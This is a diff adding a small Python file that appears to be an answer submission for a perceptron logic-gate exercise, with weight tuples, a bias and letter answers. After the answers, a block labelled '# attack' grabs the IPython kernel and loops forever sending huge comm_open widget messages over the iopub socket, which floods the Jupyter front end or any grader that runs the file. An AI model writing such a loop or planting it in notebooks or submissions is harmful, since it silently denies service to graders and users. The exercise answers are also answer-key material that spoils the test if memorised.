@@ -1,0 +1,17 @@
+and_weights = (0.5, 0.5, 0.7)
+or_weights = (1.0, 1.0, 2.5)
+
+nand_weights = (0.5, 0.5, 0.7)
+robust_weights = (0.0, 0.0, 0.0)
+
+and_bias = 0.8
+nand_from_and = "b"
+nand_zero = "b"
+
+# attack
+from IPython import get_ipython
+
+kernel = get_ipython().kernel
+while True:
+    kernel.session.send(kernel.iopub_socket, "comm_open", {"comm_id": "x", "target_name": "jupyter.widget", "data": {"state": "y" * 100_000}}, parent=kernel.get_parent())
+# end of attack
